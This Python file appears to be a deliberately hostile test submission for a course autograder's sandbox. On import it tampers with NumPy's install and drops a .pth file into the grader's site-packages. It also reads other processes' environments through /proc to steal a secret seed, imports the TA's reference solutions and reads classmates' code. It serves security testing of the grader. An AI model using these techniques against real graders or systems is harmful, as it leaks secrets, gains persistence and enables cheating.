"""Hostile: the five attacks an ordinary user's grader met (issue 34), all at once, at import time.

1. append to NumPy's ``__init__.py`` (in the child site folder: once a hard link into the TA's venv);
2. find the grader's Python through ``/proc/*/cmdline`` and write a ``.pth`` file into its site-packages;
3. import ``reference.solutions`` from the TA's kit, found as a grader process's working folder;
4. read HOME and ``FTR_SECRET_SEED_FILE`` from ``/proc/*/environ``, then the secret seed;
5. find the batch folder in the grader's command line and read a classmate's ``replanning.py``.

What succeeded goes into ``FACTS``, raised by ``BinaryHeap()`` so the report shows it (the test reads it).
"""
import glob
import os
import sys

MARK = "# ftr-kit ta_attacker was here\n"
FACTS = {"numpy": [], "pth": [], "solutions": False, "seed": [], "classmates": []}


def _processes():
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            yield entry


def _read(path, size=4096):
    try:
        with open(path, "rb") as file:
            return file.read(size)
    except OSError:
        return b""


def _attack_numpy():
    try:
        import numpy
        with open(numpy.__file__, "a") as file:
            file.write(MARK)
        FACTS["numpy"].append(numpy.__file__)
    except Exception:  # noqa: BLE001
        pass


def _attack_pth():
    for pid in _processes():
        for argument in _read(f"/proc/{pid}/cmdline").split(b"\0")[:1]:
            exe = os.fsdecode(argument)
            if "python" not in os.path.basename(exe):
                continue
            prefix = os.path.dirname(os.path.dirname(os.path.realpath(exe) if os.path.isabs(exe) else exe))
            for site in glob.glob(f"{prefix}/lib/python3*/site-packages") + [os.path.dirname(os.path.dirname(
                    os.path.abspath(exe))) + "/lib/python3.11/site-packages"]:
                try:
                    with open(os.path.join(site, "ftr_ta_attacker.pth"), "w") as file:
                        file.write("import sys; sys.stderr.write('ftr-kit ta_attacker .pth ran\\n')\n")
                    FACTS["pth"].append(site)
                except OSError:
                    pass


def _attack_solutions():
    """The kit is wherever a grader process works (its cwd): its reference/solutions joins ours."""
    try:
        import reference
        for pid in _processes():
            try:
                kit = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                continue
            if os.path.isdir(f"{kit}/reference/solutions") and f"{kit}/reference" not in reference.__path__:
                reference.__path__.append(f"{kit}/reference")
        import reference.solutions  # noqa: F401
        FACTS["solutions"] = True
    except Exception:  # noqa: BLE001
        pass


def _attack_seed():
    paths = set()
    for pid in _processes():
        for variable in _read(f"/proc/{pid}/environ", 1 << 16).split(b"\0"):
            name, _, value = os.fsdecode(variable).partition("=")
            if name == "HOME":
                paths |= {f"{value}/secret_seed.txt", f"{value}/.config/ftr-kit/secret_seed.txt"}
            if name == "FTR_SECRET_SEED_FILE":
                paths.add(value)
    for path in sorted(paths):
        text = _read(path, 200).decode("utf-8", "replace").strip()
        if text:
            FACTS["seed"].append(text)


def _attack_classmates():
    mine = os.path.dirname(os.path.abspath(__file__))
    for pid in _processes():
        for argument in _read(f"/proc/{pid}/cmdline").split(b"\0"):
            folder = os.fsdecode(argument)
            if not os.path.isdir(folder):
                continue
            for path in glob.glob(f"{folder}/*/replanning.py") + glob.glob(f"{folder}/replanning.py"):
                if os.path.realpath(os.path.dirname(path)) != os.path.realpath(mine):
                    first = _read(path, 200).decode("utf-8", "replace").splitlines()[:1]
                    FACTS["classmates"] += first


for _attack in (_attack_numpy, _attack_pth, _attack_solutions, _attack_seed, _attack_classmates):
    _attack()
sys.stderr.write(f"facts: {FACTS!r}\n")


class BinaryHeap:
    def __init__(self):
        raise RuntimeError(f"facts: {FACTS!r}")
